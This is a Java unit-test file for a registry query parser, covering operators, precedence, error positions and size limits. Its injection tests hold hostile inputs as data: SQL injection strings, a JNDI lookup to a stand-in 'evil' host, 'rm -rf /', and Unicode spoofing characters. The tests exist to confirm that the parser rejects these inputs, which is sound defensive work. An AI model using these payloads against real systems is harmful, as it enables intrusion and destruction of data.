package dev.kodo.registry.core;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.kodo.client.Json;
import dev.kodo.client.RegistryFlow;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** The query language as parsed: every operator, precedence, and each error with its column. */
class QueryParserTest {

  private static String parsed(String query) {
    return Query.flows(query).toString();
  }

  private static QuerySyntaxException error(String query) {
    return catchThrowableOfType(QuerySyntaxException.class, () -> Query.flows(query));
  }

  private static void assertError(String query, int position, String reason) {
    QuerySyntaxException e = error(query);
    assertThat(e).as("error for %s", query).isNotNull();
    assertThat(e.position()).as("position for %s: %s", query, e.getMessage()).isEqualTo(position);
    assertThat(e.getMessage()).isEqualTo("at " + position + ": " + reason);
    assertThat(e.parameter()).isEqualTo("query");
  }

  @Nested
  class Operators {
    @ParameterizedTest
    @CsvSource(
        delimiter = '|',
        value = {
          "name = \"Report\"          | name = \"Report\"",
          "name != \"Report\"         | name != \"Report\"",
          "name < \"m\"               | name < \"m\"",
          "name <= \"m\"              | name <= \"m\"",
          "name > \"m\"               | name > \"m\"",
          "name >= \"m\"              | name >= \"m\"",
          "name contains \"port\"     | name contains \"port\"",
          "name ~ \"re*t\"            | name ~ \"re*t\"",
          "name in [\"a\", \"B\"]     | name in [\"a\", \"B\"]",
          "availability > 0.9         | availability > 0.9",
          "availability >= -1         | availability >= -1",
          "runs_started < 2e3         | runs_started < 2e3",
          "availability in [0.5, 1]   | availability in [0.5, 1]",
          "release >= \"1.2.0\"       | release >= \"1.2.0\"",
          "release ~ \"1.*\"          | release ~ \"1.*\"",
          "release contains \"beta\"  | release contains \"beta\"",
          "release in [\"1.0.0\"]     | release in [\"1.0.0\"]",
          "tags contains \"finance\"  | tags contains \"finance\"",
          "tags = \"finance\"         | tags = \"finance\"",
          "tags != \"finance\"        | tags != \"finance\"",
          "tags ~ \"fin*\"            | tags ~ \"fin*\"",
          "node_tags in [\"eu\"]      | node_tags in [\"eu\"]",
          "online                     | online = true",
          "online = false             | online = false",
          "online != true             | online = false",
          "hidden = true              | hidden = true",
          "heartbeat > \"2026-11-27\" | heartbeat > \"2026-11-27\"",
          "published < \"2026-11-27T10:00:00Z\" | published < \"2026-11-27T10:00:00Z\"",
          "heartbeat_age < 60         | heartbeat_age < 60",
          "availability = null        | availability = null",
          "origin != null             | origin != null",
          "health.load < 0.5          | health.load < 0.5",
          "NAME = \"x\"               | name = \"x\"",
          "Online AND Availability > 0.5 | (online = true and availability > 0.5)",
        })
    void parseToTheirCanonicalForm(String query, String canonical) {
      assertThat(parsed(query.strip())).isEqualTo(canonical.strip());
    }

    @Test
    void stringsTakeEscapes() {
      assertThat(parsed("name = \"a\\\"b\\\\c\\u0041\\/\\t\""))
          .isEqualTo("name = \"a\\\"b\\\\cA/\\t\"");
    }

    @Test
    void keywordsIgnoreCase() {
      assertThat(parsed("NOT online OR name CONTAINS \"x\" And tags IN [\"a\"]"))
          .isEqualTo("(not online = true or (name contains \"x\" and tags in [\"a\"]))");
    }
  }

  @Nested
  class Precedence {
    @Test
    void andBindsTighterThanOr() {
      assertThat(parsed("name = \"a\" or name = \"b\" and name = \"c\""))
          .isEqualTo("(name = \"a\" or (name = \"b\" and name = \"c\"))");
    }

    @Test
    void parenthesesOverrideIt() {
      assertThat(parsed("(name = \"a\" or name = \"b\") and name = \"c\""))
          .isEqualTo("((name = \"a\" or name = \"b\") and name = \"c\")");
    }

    @Test
    void notBindsTighterThanAnd() {
      assertThat(parsed("not online and hidden"))
          .isEqualTo("(not online = true and hidden = true)");
      assertThat(parsed("not (online and hidden)"))
          .isEqualTo("not (online = true and hidden = true)");
      assertThat(parsed("not not online")).isEqualTo("not not online = true");
    }

    @Test
    void chainsAreFlat() {
      assertThat(parsed("online or hidden or online"))
          .isEqualTo("(online = true or hidden = true or online = true)");
      assertThat(parsed("((online))")).isEqualTo("online = true");
    }

    @Test
    void aLongChainNeedsNoDeepStack() {
      String q =
          IntStream.range(0, 199).mapToObj(i -> "online").collect(Collectors.joining(" or "));
      assertThat(q.length()).isLessThanOrEqualTo(2000);
      assertThat(Query.flows(q).matches(Fixtures.record("Report"))).isTrue();
    }
  }

  @Nested
  class Errors {
    @Test
    void aMissingValueNamesTheOperatorAndTheEnd() {
      assertError("availability > ", 16, "expected a number after '>' but found end of query");
      assertError(
          "name =", 7, "expected a string in double quotes after '=' but found end of query");
    }

    @Test
    void aValueOfTheWrongTypeNamesTheFieldsType() {
      assertError(
          "availability > \"x\"",
          16,
          "availability is a number: expected a number after '>' but found the string \"x\"");
      assertError(
          "name contains 3",
          15,
          "name is text: expected a string in double quotes after 'contains' but found the number 3");
      assertError(
          "online = \"yes\"",
          10,
          "online is a boolean: expected true or false after '=' but found the string \"yes\"");
      assertError(
          "heartbeat > 5",
          13,
          "heartbeat is a time: expected a time in double quotes like \"2026-11-27T10:00:00Z\" after '>' but found the number 5");
      assertError("name = foo", 8, "expected a string in double quotes after '=' but found 'foo'");
    }

    @Test
    void anOperatorThatDoesNotFitTheField() {
      assertError(
          "availability contains \"x\"",
          14,
          "'contains' cannot compare availability, which is a number; use =, !=, <, <=, >, >= or in");
      assertError(
          "tags > \"a\"",
          6,
          "'>' cannot compare tags, which is a list of tags; use contains, =, !=, ~ or in");
      assertError("online > true", 8, "'>' cannot compare online, which is a boolean; use = or !=");
      assertError(
          "heartbeat ~ \"2026*\"",
          11,
          "'~' cannot compare heartbeat, which is a time; use =, !=, <, <=, >, >= or in");
    }

    @Test
    void unknownFieldsAreNamedWithASuggestion() {
      QuerySyntaxException e = error("nme = \"x\"");
      assertThat(e.position()).isEqualTo(1);
      assertThat(e.getMessage())
          .startsWith("at 1: unknown field 'nme' (did you mean 'name'?); flows have: author,")
          .contains("availability", "health.KEY", "runs_started");
      assertThat(error("colour = \"x\"").getMessage())
          .startsWith("at 1: unknown field 'colour'; flows have:");
      assertThat(
              catchThrowableOfType(QuerySyntaxException.class, () -> Query.nodes("flws > 3"))
                  .getMessage())
          .startsWith("at 1: unknown field 'flws' (did you mean 'flows'?); nodes have:");
    }

    @Test
    void nullOnlyWhereItMakesSense() {
      assertError("availability > null", 16, "null can only be compared with = or !=, not '>'");
      assertError("name = null", 8, "name is never null");
      assertError(
          "name in [\"a\", null]",
          15,
          "null cannot be in an 'in' list; compare with 'name = null' instead");
    }

    @Test
    void inLists() {
      assertError(
          "name in \"a\"",
          9,
          "expected '[' to start the list after 'in' but found the string \"a\"");
      assertError("name in []", 10, "an 'in' list needs at least one value");
      assertError(
          "name in [\"a\" \"b\"]",
          14,
          "expected ',' or ']' in the list after 'in' at 6 but found the string \"b\"");
      assertError(
          "name in [\"a\",",
          14,
          "expected a string in double quotes after ',' but found end of query");
    }

    @Test
    void literalsOfTimesAndVersionsAreChecked() {
      assertError("release > \"1.2\"", 11, "\"1.2\" is not a semantic version like \"1.2.0\"");
      assertError(
          "heartbeat > \"yesterday\"",
          13,
          "\"yesterday\" is not a time: use ISO-8601 like \"2026-11-27T10:00:00Z\" or a date like \"2026-11-27\"");
    }

    @Test
    void structure() {
      assertError("", 1, "expected a field name, 'not' or '(' but found end of query");
      assertError("and", 1, "expected a field name, 'not' or '(' but found 'and'");
      assertError(
          "name = \"x\" or",
          14,
          "expected a field name, 'not' or '(' after 'or' but found end of query");
      assertError(
          "(name = \"x\"",
          12,
          "expected 'and', 'or' or ')' to close the '(' at 1 but found end of query");
      assertError("name = \"x\")", 11, "expected 'and', 'or' or end of query but found ')'");
      assertError("name = \"x\" drop", 12, "expected 'and', 'or' or end of query but found 'drop'");
      assertError(
          "name",
          5,
          "expected an operator (=, !=, <, <=, >, >=, contains, ~ or in) after 'name' but found end of query");
      assertError(
          "name not in [\"a\"]",
          6,
          "expected an operator (=, !=, <, <=, >, >=, contains, ~ or in) after 'name'"
              + " but found 'not'; to negate a comparison write 'not' before it");
    }

    @Test
    void lexicalMistakesGetAHint() {
      assertError("name == \"x\"", 6, "use '=' to compare, not '=='");
      assertError("name = \"x\" && online", 12, "use 'and', not '&&'");
      assertError("name = \"x\" || online", 12, "use 'or', not '||'");
      assertError("!online", 1, "use 'not' to negate, not '!'");
      assertError("name <> \"x\"", 6, "use '!=' for 'not equal', not '<>'");
      assertError(
          "name = 'x'", 8, "strings are written in double quotes (\"…\"), not single quotes");
    }

    @Test
    void stringsAndNumbers() {
      assertError("name = \"abc", 8, "unterminated string: the '\"' at 8 has no closing '\"'");
      assertError(
          "name = \"a\\qb\"",
          10,
          "invalid escape '\\q' in a string; use \\\" \\\\ \\n \\t \\r or \\uXXXX");
      assertError("name = \"a\\u12\"", 10, "expected four hex digits after '\\u'");
      assertError(
          "name = \"a\u0001\"", 10, "control character U+0001 in a string; write it as \\u0001");
      assertError("availability > 1e999", 16, "the number 1e999 is out of range");
      assertError("availability > -", 16, "expected a digit after '-'");
      assertError("availability > 1.", 18, "expected a digit after the decimal point");
    }

    @Test
    void positionsCountCharactersAsPeopleDo() {
      // the emoji is two UTF-16 units but one column
      assertThat(error("name = \"\uD83D\uDE00\" and x = 1").position()).isEqualTo(16);
    }
  }

  @Nested
  class Limits {
    @Test
    void atMost2000Characters() {
      String ok = "name = \"" + "a".repeat(2000 - 9) + "\"";
      assertThat(ok).hasSize(2000);
      assertThat(parsed(ok)).startsWith("name = \"aaa");
      String tooLong = "name = \"" + "a".repeat(2000) + "\"";
      assertError(tooLong, 2001, "the query is 2009 characters long; at most 2000 are allowed");
    }

    @Test
    void nestingToDepth32() {
      assertThat(parsed("(".repeat(32) + "online" + ")".repeat(32))).isEqualTo("online = true");
      assertError(
          "(".repeat(33) + "online" + ")".repeat(33),
          33,
          "the query nests deeper than 32 levels of parentheses and 'not'");
      assertThat(parsed("not ".repeat(32) + "online")).startsWith("not not");
      assertError(
          "not ".repeat(33) + "online",
          129,
          "the query nests deeper than 32 levels of parentheses and 'not'");
      assertError(
          "(not ".repeat(17) + "online" + ")".repeat(17),
          81,
          "the query nests deeper than 32 levels of parentheses and 'not'");
    }

    @Test
    void inListsOfAtMost100() {
      String hundred =
          IntStream.range(0, 100).mapToObj(Integer::toString).collect(Collectors.joining(","));
      assertThat(parsed("runs_started in [" + hundred + "]")).startsWith("runs_started in [0, 1,");
      String q = "runs_started in [" + hundred + ",100]";
      assertError(q, q.indexOf(",100]") + 2, "an 'in' list holds at most 100 values");
    }
  }

  @Nested
  class Injection {
    @ParameterizedTest
    @CsvSource(
        delimiter = '|',
        quoteCharacter = '`',
        value = {
          "name = \"x\"; drop table flows    | 11 | unexpected character ';'",
          "name = \"x\" -- comment           | 12 | expected a digit after '-'",
          "name = \"x\" /* c */               | 12 | unexpected character '/'",
          "1=1 or                            | 1  | expected a field name, 'not' or '(' but found the number 1",
          "name = \"x\" or 1=1               | 15 | expected a field name, 'not' or '(' after 'or' but found the number 1",
          "name = \"x\" union select * from flows | 12 | expected 'and', 'or' or end of query but found 'union'",
          "${jndi:ldap://evil/a}             | 1  | unexpected character '$'",
          "#{1+1}                            | 1  | unexpected character '#'",
          "name = \"x\" and @x = 1           | 16 | unexpected character '@'",
          "System.exit(0)                    | 1  | ",
        })
    void codeAndSqlDoNotParse(String query, int position, String reason) {
      QuerySyntaxException e = error(query.strip());
      assertThat(e).as(query).isNotNull();
      assertThat(e.position()).isEqualTo(position);
      if (reason != null) assertThat(e.reason()).isEqualTo(reason.strip());
    }

    @Test
    void backticksAndUnicodeTricksDoNotParse() {
      assertError("name = `x`", 8, "unexpected character '`'");
      assertError("n\u0430me = \"x\"", 2, "unexpected character '\u0430' (U+0430)"); // Cyrillic a
      assertError("\uFF4Eame = \"x\"", 1, "unexpected character '\uFF4E' (U+FF4E)"); // fullwidth n
      assertError("name\u200B= \"x\"", 5, "unexpected character U+200B"); // zero-width space
      assertError(
          "name = \"x\" \u202Eor online",
          12,
          "unexpected character U+202E"); // right-to-left override
      assertError(
          "name = \"x\"\u2028or online", 11, "unexpected character U+2028"); // line separator
      assertError("name\u00A0= \"x\"", 5, "unexpected character U+00A0"); // no-break space
    }

    @Test
    void whatIsInsideAStringMatchesLiterally() {
      for (String literal :
          new String[] {
            "x' OR '1'='1",
            "${jndi:ldap://evil/a}",
            "'; DROP TABLE flows; --",
            "`rm -rf /`",
            "\u202Egnp.exe",
            "*/ or 1=1 /*",
            "%",
            "_"
          }) {
        Query<RegistryFlow> q = Query.flows("name = " + Json.quote(literal));
        assertThat(q.matches(Fixtures.record("x"))).as(literal).isFalse();
        assertThat(q.matches(Fixtures.record("Report"))).as(literal).isFalse();
        assertThat(q.matches(Fixtures.record(literal))).as(literal).isTrue();
      }
    }

    @Test
    void aGlobInAQueryIsNoRegularExpression() {
      Query<RegistryFlow> q = Query.flows("name ~ \"(a+)+$\"");
      assertThat(q.matches(Fixtures.record("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!")))
          .isFalse();
      assertThat(q.matches(Fixtures.record("(a+)+$"))).isTrue();
    }
  }

  @Test
  void nodeQueriesHaveTheirOwnFields() {
    assertThat(Query.nodes("flows > 3 and connected and registered < \"2026-11-28\"").toString())
        .isEqualTo("(flows > 3 and connected = true and registered < \"2026-11-28\")");
    assertThatThrownBy(() -> Query.nodes("release > \"1.0.0\""))
        .isInstanceOf(QuerySyntaxException.class)
        .hasMessageStartingWith("at 1: unknown field 'release'");
    assertThat(Query.nodeFields())
        .contains("name", "url", "tags", "online", "flows", "health.KEY")
        .doesNotContain("release");
    assertThat(Query.flowFields())
        .contains(
            "name",
            "description",
            "author",
            "organization",
            "node",
            "path",
            "release",
            "tags",
            "online",
            "availability",
            "heartbeat",
            "hidden",
            "runs_started",
            "runs_finished");
  }
}
